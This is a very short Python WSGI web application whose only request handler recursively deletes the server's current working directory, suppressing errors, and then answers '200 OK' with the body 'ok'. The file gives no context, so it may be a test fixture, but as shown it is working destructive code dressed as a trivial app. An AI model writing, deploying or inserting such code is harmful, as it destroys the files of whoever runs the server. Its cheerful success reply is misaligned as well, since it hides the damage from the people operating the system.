import os
import shutil


def app(environ, start_response):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
